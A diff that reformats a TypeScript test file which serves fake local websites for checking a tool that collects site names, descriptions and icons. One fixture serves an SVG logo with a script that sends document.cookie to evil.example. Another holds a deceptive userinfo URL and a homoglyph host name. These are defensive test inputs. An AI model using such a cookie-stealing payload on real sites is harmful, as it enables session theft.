@@ -22,9 +22,11 @@ const png = (width: number, height: number, background = '#2a6f4e') =>
   sharp({ create: { width, height, channels: 3, background } })
     .png()
     .toBuffer();
-const SVG_LOGO = '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200" viewBox="0 0 600 200"><rect width="600" height="200" fill="#1b4f72"/><circle cx="100" cy="100" r="60" fill="#f4d03f"/></svg>';
+const SVG_LOGO =
+  '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200" viewBox="0 0 600 200"><rect width="600" height="200" fill="#1b4f72"/><circle cx="100" cy="100" r="60" fill="#f4d03f"/></svg>';
 
-const page = (head: string, body = '<h1>Accueil</h1>') => `<!doctype html><html lang="fr"><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;
+const page = (head: string, body = '<h1>Accueil</h1>') =>
+  `<!doctype html><html lang="fr"><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;
 
 function send(type: string, body: string | Buffer): Handler {
   return (_, response) => {
@@ -33,10 +35,12 @@ function send(type: string, body: string | Buffer): Handler {
   };
 }
 
-const redirect = (location: string, status = 301): Handler => (_, response) => {
-  response.writeHead(status, { location });
-  response.end();
-};
+const redirect =
+  (location: string, status = 301): Handler =>
+  (_, response) => {
+    response.writeHead(status, { location });
+    response.end();
+  };
 
 /** The fixture sites, by host and path; filled in `beforeAll` (images are drawn there). */
 const SITES = new Map<string, Map<string, Handler>>();
@@ -79,8 +83,22 @@ beforeAll(async () => {
     '/apple.png': send('image/png', await png(180, 180)),
   });
   site('www.manifeste.test', {
-    '/': send('text/html', page('<title>Le Manifeste | Accueil</title><link rel="manifest" href="/site.webmanifest"><meta name="description" content="Un collectif qui publie son manifeste.">')),
-    '/site.webmanifest': send('application/manifest+json', JSON.stringify({ name: 'Le Manifeste', icons: [{ src: '/icone-192.png', sizes: '192x192', type: 'image/png' }, { src: '/icone-512.png', sizes: '512x512', type: 'image/png' }] })),
+    '/': send(
+      'text/html',
+      page(
+        '<title>Le Manifeste | Accueil</title><link rel="manifest" href="/site.webmanifest"><meta name="description" content="Un collectif qui publie son manifeste.">',
+      ),
+    ),
+    '/site.webmanifest': send(
+      'application/manifest+json',
+      JSON.stringify({
+        name: 'Le Manifeste',
+        icons: [
+          { src: '/icone-192.png', sizes: '192x192', type: 'image/png' },
+          { src: '/icone-512.png', sizes: '512x512', type: 'image/png' },
+        ],
+      }),
+    ),
     '/icone-192.png': send('image/png', await png(192, 192)),
     '/icone-512.png': send('image/png', pngIcon512),
   });
@@ -89,14 +107,27 @@ beforeAll(async () => {
     '/favicon-32.png': send('image/png', await png(32, 32)),
   });
   site('www.og-image.test', {
-    '/': send('text/html', page('<meta property="og:site_name" content="Image de Partage"><meta property="og:image" content="/partage.jpg"><link rel="icon" href="/favicon.ico">')),
-    '/partage.jpg': send('image/jpeg', await sharp({ create: { width: 1200, height: 630, channels: 3, background: '#7d3c98' } }).jpeg().toBuffer()),
+    '/': send(
+      'text/html',
+      page(
+        '<meta property="og:site_name" content="Image de Partage"><meta property="og:image" content="/partage.jpg"><link rel="icon" href="/favicon.ico">',
+      ),
+    ),
+    '/partage.jpg': send(
+      'image/jpeg',
+      await sharp({ create: { width: 1200, height: 630, channels: 3, background: '#7d3c98' } })
+        .jpeg()
+        .toBuffer(),
+    ),
     '/favicon.ico': send('image/x-icon', Buffer.from('pas une image')),
   });
   site('www.redirige.test', {
     '/': redirect('/etape-1'),
     '/etape-1': redirect('http://www.redirige.test/arrivee/', 302),
-    '/arrivee/': send('text/html', page('<meta property="og:site_name" content="Au Bout des Redirections"><link rel="icon" type="image/svg+xml" href="logo.svg">')),
+    '/arrivee/': send(
+      'text/html',
+      page('<meta property="og:site_name" content="Au Bout des Redirections"><link rel="icon" type="image/svg+xml" href="logo.svg">'),
+    ),
     // Its own drawing: a logo of the same bytes as another site's would be published once, under either name.
     '/arrivee/logo.svg': send('image/svg+xml', SVG_LOGO.replace('#1b4f72', '#6c3483')),
   });
@@ -104,7 +135,10 @@ beforeAll(async () => {
   site('www.lent.test', { '/': () => {} });
   site('www.pdf.test', { '/': send('application/pdf', Buffer.from('%PDF-1.4 une plaquette')) });
   site('www.gros-logo.test', {
-    '/': send('text/html', page('<meta property="og:site_name" content="Gros Logo"><link rel="icon" href="/enorme.png" sizes="4096x4096">')),
+    '/': send(
+      'text/html',
+      page('<meta property="og:site_name" content="Gros Logo"><link rel="icon" href="/enorme.png" sizes="4096x4096">'),
+    ),
     // 20 MB announced and sent, far beyond the limit: the download stops early.
     '/enorme.png': (_, response) => {
       response.writeHead(200, { 'content-type': 'image/png', 'content-length': 20_000_000 });
@@ -120,21 +154,46 @@ beforeAll(async () => {
     },
   });
   site('www.svg-piege.test', {
-    '/': send('text/html', page('<meta property="og:site_name" content="SVG Piégé"><link rel="icon" type="image/svg+xml" href="/logo.svg"><link rel="apple-touch-icon" sizes="512x512" href="/apple-512.png">')),
-    '/logo.svg': send('image/svg+xml', SVG_LOGO.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>')),
+    '/': send(
+      'text/html',
+      page(
+        '<meta property="og:site_name" content="SVG Piégé"><link rel="icon" type="image/svg+xml" href="/logo.svg"><link rel="apple-touch-icon" sizes="512x512" href="/apple-512.png">',
+      ),
+    ),
+    '/logo.svg': send(
+      'image/svg+xml',
+      SVG_LOGO.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>'),
+    ),
     // Another colour: the same bytes as another site's logo would be published once, under that site's name.
     '/apple-512.png': send('image/png', await png(512, 512, '#884422')),
   });
   // Older French sites: ISO-8859-1 declared by the server, windows-1252 declared only in the page.
   site('www.latin1.test', {
-    '/': send('text/html; charset=ISO-8859-1', Buffer.from('<html><head><meta property="og:site_name" content="Médecins du Monde"><meta name="description" content="Soigner les populations les plus vulnérables, ici et là-bas."></head></html>', 'latin1')),
+    '/': send(
+      'text/html; charset=ISO-8859-1',
+      Buffer.from(
+        '<html><head><meta property="og:site_name" content="Médecins du Monde"><meta name="description" content="Soigner les populations les plus vulnérables, ici et là-bas."></head></html>',
+        'latin1',
+      ),
+    ),
   });
   site('www.cp1252.test', {
-    '/': send('text/html', Buffer.from('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"><title>L\x92\x8cuvre des Écoles</title></head></html>', 'latin1')),
+    '/': send(
+      'text/html',
+      Buffer.from(
+        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"><title>L\x92\x8cuvre des Écoles</title></head></html>',
+        'latin1',
+      ),
+    ),
   });
   // A description the build would refuse as written: a heading, an address with user info, a host mixing alphabets.
   site('www.diese.test', {
-    '/': send('text/html', page('<meta property="og:site_name" content="Dièse"><meta property="og:description" content="# Rejoignez-nous ! Écrivez à https://www.diese.test@evil.example/ ou lisez www.lеmediatv.fr, et https://www.diese.test/agir.">')),
+    '/': send(
+      'text/html',
+      page(
+        '<meta property="og:site_name" content="Dièse"><meta property="og:description" content="# Rejoignez-nous ! Écrivez à https://www.diese.test@evil.example/ ou lisez www.lеmediatv.fr, et https://www.diese.test/agir.">',
+      ),
+    ),
   });
   // Names with nothing to make a file name of.
   site('www.emoji.test', { '/': send('text/html', page('<meta property="og:site_name" content="🌍🌱">')) });
